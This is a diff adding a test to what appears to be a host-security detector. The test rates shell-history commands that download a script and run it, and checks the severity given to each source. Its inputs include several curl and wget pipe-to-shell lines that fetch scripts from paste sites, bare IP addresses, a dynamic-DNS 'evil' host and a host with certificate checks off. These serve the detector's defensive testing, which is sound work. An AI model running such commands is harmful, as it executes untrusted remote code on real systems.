@@ -92,6 +92,20 @@ test("severity overrides and known-bad marks inside detections", async (t) => {
   t.equal(shell[0]?.severity, "high");
 });
 
+test("download-execute: how high depends on where the code came from", async (t) => {
+  const history = (command: string) => run("download-execute", host({ shell_history: [{ uid: "1000", time: "0", command, history_file: "/home/a/.bash_history" }] }));
+  t.equal(history("curl -s http://198.51.100.3/x.sh | bash")[0]?.severity, undefined, "plain HTTP from an address: the default (high)");
+  t.equal(history("curl -fsSL https://pastebin.com/raw/Xy12 | sh")[0]?.severity, undefined, "a paste site: high");
+  t.equal(history("curl -fsSL https://cdn.evil.duckdns.org/i.sh | sh")[0]?.severity, undefined, "a dynamic-DNS name: high");
+  t.equal(history("curl -k -fsSL https://updates.example.com/i.sh | sh")[0]?.severity, undefined, "certificate checks off: high");
+  t.equal(history("curl -fsSL https://203.0.113.9/i.sh | sh")[0]?.severity, undefined, "HTTPS to a bare address: high");
+  const vendor = history("curl -fsSL https://install.example-vendor.com/agent.sh | sudo bash");
+  t.equal(vendor[0]?.severity, "low", "verified HTTPS from a named outside host: an installer to confirm");
+  t.match(vendor[0]?.summary, /over HTTPS from install\.example-vendor\.com/);
+  t.equal(history("curl -fsSL https://artifacts.corp/bootstrap.sh | bash")[0]?.severity, "medium", "from inside the site");
+  t.equal(history("wget -qO- https://get.example.io/i.sh | sh; curl http://198.51.100.3/y | sh")[0]?.severity, undefined, "one plain-HTTP source keeps it high");
+});
+
 test("listeners: a default port only when its default program holds it", async (t) => {
   const rows = (pid: number, port: number) => ({ pid: String(pid), port: String(port), protocol: "6", address: "0.0.0.0" });
   const shellOn9100 = run("unexpected-listener", host({ listening_ports: [rows(5, 9100)], processes: [proc(5, "bash", "/usr/bin/bash", "bash")] }));
